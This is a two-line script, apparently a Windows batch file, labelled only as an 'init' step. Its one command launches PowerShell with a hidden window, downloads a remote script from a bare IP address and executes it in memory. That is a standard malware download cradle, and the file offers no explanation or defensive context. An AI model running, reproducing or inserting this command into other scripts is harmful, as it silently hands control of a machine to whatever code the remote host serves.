REM init 3331 v2
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1')"
